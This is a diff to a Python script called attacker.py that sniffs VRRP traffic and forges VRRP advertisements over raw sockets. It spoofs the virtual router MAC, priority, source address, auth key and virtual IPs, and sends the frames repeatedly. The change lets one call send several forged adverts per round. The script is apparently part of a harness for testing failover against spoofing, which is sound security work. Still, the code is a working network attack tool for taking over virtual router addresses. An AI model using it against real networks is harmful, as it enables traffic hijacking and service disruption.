@@ -3,8 +3,9 @@
 
     python3 attacker.py sniff IFACE SECONDS CONTROL_SOURCE
         -> JSON {"vrrp": [source, ...], "control": packets from CONTROL_SOURCE}
-    python3 attacker.py forge IFACE DEST VERSION VRID PRIORITY SOURCE KEY COUNT VIP [VIP ...]
-        -> JSON {"sent": COUNT}
+    python3 attacker.py forge IFACE COUNT ADVERTS
+        ADVERTS: a JSON list of {dest, version, vrid, priority, source, key, vips}
+        -> JSON {"sent": frames}
 
 DEST is VRRP's multicast group 224.0.0.18 or a director's own address (the
 frame then goes to that address's MAC, found by ARP).
@@ -73,20 +74,29 @@ def mac_of(address: str) -> bytes:
     raise SystemExit(f"no ARP answer from {address}")
 
 
-def forge(
-    iface: str, dest: str, version: int, vrid: int, priority: int, source: str, key: str, count: int, vips: list[str]
-) -> dict:
-    dest_mac = GROUP_MAC if dest == VRRP_GROUP else mac_of(dest)
-    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
-        sock.bind((iface, 0))
+def forge(iface: str, count: int, adverts: list[dict]) -> dict:
+    """``count`` rounds, 0.1 s apart (an advert interval), each sending one
+    frame of every forged advert: {dest, version, vrid, priority, source,
+    key, vips}."""
+    macs: dict[str, bytes] = {}
+    packets = []
+    for advert in adverts:
+        dest, vrid = advert["dest"], int(advert["vrid"])
+        if dest not in macs:
+            macs[dest] = GROUP_MAC if dest == VRRP_GROUP else mac_of(dest)
         # The VRRP virtual MAC of this router id, as a real VRRP router sends from.
         mac = bytes.fromhex(f"00005e0001{vrid:02x}")
-        message = vrrp_message(version, vrid, priority, vips, source, key, dest)
-        packet = frame(message, source, dest, dest_mac, mac)
+        message = vrrp_message(
+            int(advert["version"]), vrid, int(advert["priority"]), advert["vips"], advert["source"], advert["key"], dest
+        )
+        packets.append(frame(message, advert["source"], dest, macs[dest], mac))
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
+        sock.bind((iface, 0))
         for _ in range(count):
-            sock.send(packet)
+            for packet in packets:
+                sock.send(packet)
             time.sleep(0.1)
-    return {"sent": count}
+    return {"sent": count * len(packets)}
 
 
 def sniff(iface: str, seconds: float, control: str) -> dict:
@@ -115,8 +125,7 @@ def main(argv: list[str]) -> None:
     if argv[0] == "sniff":
         print(json.dumps(sniff(argv[1], float(argv[2]), argv[3])))
     elif argv[0] == "forge":
-        iface, dest, version, vrid, priority, source, key, count, *vips = argv[1:]
-        print(json.dumps(forge(iface, dest, int(version), int(vrid), int(priority), source, key, int(count), vips)))
+        print(json.dumps(forge(argv[1], int(argv[2]), json.loads(argv[3]))))
     else:
         raise SystemExit(f"unknown command {argv[0]!r}")
 
